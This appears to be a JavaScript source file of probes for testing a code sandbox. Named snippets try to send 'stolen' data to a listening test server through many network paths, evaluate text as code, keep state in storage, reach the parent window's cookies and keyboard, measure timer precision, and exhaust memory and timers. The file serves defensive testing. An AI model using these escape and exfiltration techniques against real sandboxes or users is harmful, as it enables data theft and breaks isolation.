// What is tried in JavaScript, by name. Each is turned to text: in an ordinary worker or frame that text runs as it is,
// and inside of the sandbox it is given to every road from Python to an evaluator. So none may use anything from here.
// `at`: {http, ws, quic} addresses of the listening server, {slug, channel} names.
// deno-lint-ignore-file no-eval

/** Roads out. Each says its name in its address. */
const egress = {
  "fetch": (at) => fetch(`${at.http}/${at.slug}?stolen`, { mode: "no-cors" }).then(() => "answered"),
  "fetch-post": (at) =>
    fetch(`${at.http}/${at.slug}`, { mode: "no-cors", method: "POST", body: "stolen" }).then(() => "answered"),
  "fetch-keepalive": (at) =>
    fetch(`${at.http}/${at.slug}`, { mode: "no-cors", method: "POST", keepalive: true, body: "stolen" })
      .then(() => "answered"),
  "xhr": (at) =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${at.http}/${at.slug}`);
      request.onload = () => done("answered");
      request.onerror = () => fail(new Error("error"));
      request.send();
    }),
  "xhr-sync": (at) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${at.http}/${at.slug}`, false);
    request.send();
    return request.status;
  },
  "websocket": (at) =>
    new Promise((done, fail) => {
      const socket = new WebSocket(`${at.ws}/${at.slug}`);
      socket.onopen = () => (socket.close(), done("open"));
      socket.onerror = () => fail(new Error("error"));
    }),
  "websocket-protocol": (at) =>
    new Promise((done) => {
      const socket = new WebSocket(`${at.ws}/${at.slug}`, ["stolen"]);
      socket.onopen = socket.onerror = () => (socket.close(), done("tried"));
    }),
  "eventsource": (at) =>
    new Promise((done, fail) => {
      const source = new EventSource(`${at.http}/${at.slug}`);
      source.onmessage = () => (source.close(), done("message"));
      source.onerror = () => (source.close(), fail(new Error("error")));
    }),
  "webtransport": (at) => {
    const transport = new WebTransport(`https://${at.quic}/${at.slug}`);
    transport.ready.catch(() => {});
    transport.closed.catch(() => {});
    return new Promise((done) => setTimeout(() => done("tried"), 700));
  },
  "webrtc": (at) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${at.quic}` }] });
    connection.createDataChannel("x");
    return connection.createOffer().then((offer) => connection.setLocalDescription(offer)).then(() => "tried");
  },
  "beacon": (at) => String(navigator.sendBeacon(`${at.http}/${at.slug}`, "stolen")),
  "import-url": (at) => import(`${at.http}/${at.slug}?stolen`).then(() => "loaded"),
  "import-json": (at) => import(`${at.http}/${at.slug}?json`, { with: { type: "json" } }).then(() => "loaded"),
  "importscripts-url": (at) => (importScripts(`${at.http}/${at.slug}`), "loaded"),
  "cache-add": (at) =>
    caches.open("x").then((cache) => cache.add(`${at.http}/${at.slug}`)).then(() => "kept"),
  "font": (at) => new FontFace("x", `url(${at.http}/${at.slug})`).load().catch(() => "no font, but asked for"),
  "nested-fetch": (at) =>
    new Promise((done, fail) => {
      const script = `fetch("${at.http}/${at.slug}", { mode: "no-cors" }).then(() => postMessage("answered"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([script])));
      worker.onmessage = ({ data }) => (worker.terminate(), done(data));
      worker.onerror = () => fail(new Error("refused"));
    }),
  "nested-importscripts": (at) =>
    new Promise((done, fail) => {
      const worker = new Worker(URL.createObjectURL(new Blob([`importScripts("${at.http}/${at.slug}"); postMessage("ok")`])));
      worker.onmessage = ({ data }) => (worker.terminate(), done(data));
      worker.onerror = () => fail(new Error("refused"));
    }),
  "nested-module": (at) =>
    new Promise((done, fail) => {
      const blob = new Blob([`import "${at.http}/${at.slug}"; postMessage("ok")`], { type: "text/javascript" });
      const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
      worker.onmessage = ({ data }) => (worker.terminate(), done(data));
      worker.onerror = () => fail(new Error("refused"));
    }),
  "shared-worker": (at) => {
    const script = new Blob([`fetch("${at.http}/${at.slug}", { mode: "no-cors" })`]);
    new SharedWorker(URL.createObjectURL(script));
    return new Promise((done) => setTimeout(() => done("tried"), 400));
  },
};

/** From text to code: each gives 42 where the text was evaluated. */
const evaluation = {
  "eval": () => (0, eval)("6 * 7"),
  "function": () => Function("return 6 * 7")(),
  "async-function": () => (async () => {}).constructor("return 6 * 7")(),
  "generator-function": () => (function* () {}).constructor("yield 6 * 7")().next().value,
  "timer-text": () => {
    setTimeout("globalThis.__timed = 6 * 7");
    return new Promise((done) => setTimeout(() => done(globalThis.__timed), 150));
  },
  "import-data": () => import("data:text/javascript,export default 6*7").then((module) => module.default),
  "import-blob": () =>
    import(URL.createObjectURL(new Blob(["export default 6 * 7"], { type: "text/javascript" })))
      .then((module) => module.default),
  "importscripts-blob": () =>
    (importScripts(URL.createObjectURL(new Blob(["globalThis.__blob = 6 * 7"], { type: "text/javascript" }))),
      globalThis.__blob),
  "importscripts-data": () => (importScripts("data:text/javascript,globalThis.__data=6*7"), globalThis.__data),
  "nested-eval": () =>
    new Promise((done, fail) => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(eval("6 * 7"))'])));
      worker.onmessage = ({ data }) => (worker.terminate(), done(data));
      worker.onerror = () => fail(new Error("refused"));
    }),
  "wasm": () => {
    const bytes = [0, 97, 115, 109, 1, 0, 0, 0, 1, 5, 1, 96, 0, 1, 127, 3, 2, 1, 0, 7, 5, 1, 1, 97, 0, 0, 10, 6, 1, 4, 0,
      65, 42, 11];
    return WebAssembly.instantiate(new Uint8Array(bytes)).then(({ instance }) => instance.exports.a());
  },
};

/** What stays: `nothing` the first time, `left` where that was kept. */
const storage = {
  "indexeddb": () =>
    new Promise((done, fail) => {
      const opening = indexedDB.open("left");
      opening.onerror = () => fail(opening.error);
      opening.onupgradeneeded = () => opening.result.createObjectStore("x");
      opening.onsuccess = () => {
        const store = opening.result.transaction("x", "readwrite").objectStore("x");
        const found = store.get("it");
        found.onsuccess = () => store.put("left", "it");
        store.transaction.oncomplete = () => (opening.result.close(), done(found.result ?? "nothing"));
      };
    }),
  "caches": async () => {
    const cache = await caches.open("left");
    const found = await cache.match("http://left.invalid/");
    await cache.put("http://left.invalid/", new Response("left"));
    return found ? await found.text() : "nothing";
  },
  "opfs": async () => {
    const root = await navigator.storage.getDirectory();
    const found = await root.getFileHandle("left").then(() => "left", () => "nothing");
    await root.getFileHandle("left", { create: true });
    return found;
  },
  "cookie-store": async () => {
    const found = await cookieStore.get("left");
    await cookieStore.set("left", "left");
    return found ? found.value : "nothing";
  },
  "broadcast": (at) => (new BroadcastChannel(at.channel).postMessage("from the plugin"), "sent"),
};

/** What a window has. */
const reach = {
  "document": () => document.title,
  "parent-document": () => parent.document.title,
  "top-address": () => top.location.pathname,
  "local-storage": () => (localStorage.setItem("a", "kept"), localStorage.getItem("a")),
  "session-storage": () => (sessionStorage.setItem("a", "kept"), sessionStorage.getItem("a")),
  "cookie": () => (document.cookie = "a=kept", String(document.cookie.includes("a=kept"))),
  "keyboard": () => (parent.addEventListener("keydown", () => {}), "listening"),
  "dialog": () => typeof alert.call,
  "new-window": () => typeof open.call,
  "canvas": () => typeof document.createElement("canvas").getContext,
  "names": () =>
    ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "Worker", "importScripts", "indexedDB", "caches",
      "BroadcastChannel", "navigator", "postMessage"].filter((name) => globalThis[name] !== undefined).join(" "),
};

/** The smallest step of the clock that is seen within a tenth of a second, in microseconds. */
const clocks = {
  "clock": () => {
    const end = performance.now() + 100;
    let least = Infinity;
    for (let now = performance.now(), last = now; now < end; now = performance.now()) {
      if (now > last) {
        least = Math.min(least, now - last);
        last = now;
      }
    }
    return Math.round(least * 1000);
  },
};

/** What takes more than there should be, in an ordinary worker. */
const appetite = {
  "memory": () => {
    const all = [];
    for (let n = 0; n < 128; n++) all.push(new Uint8Array(1 << 20).fill(1));
    return `took ${all.length}`;
  },
  "block": () => `took ${new ArrayBuffer(2 ** 28).byteLength}`,
  "recursion": () => {
    const deeper = (n) => n ? deeper(n - 1) + 1 : 0;
    try {
      return deeper(9e6);
    } catch (error) {
      return `died of ${error.name}`;
    }
  },
  "giant-result": () => "took " + "x".repeat(20_000_000),
  "timers": () => {
    for (let n = 0; n < 5000; n++) setInterval(() => {}, 1);
    return "took 5000 timers";
  },
  "tasks": () => {
    for (let n = 0; n < 50; n++) setInterval(() => {}, 0);
    return "took 50";
  },
};

export const codes = { ...egress, ...evaluation, ...storage, ...reach, ...clocks, ...appetite };

/** The text of one of them, called with its addresses. */
export const text = (name, at) => `(${codes[name]})(${JSON.stringify(at)})`;
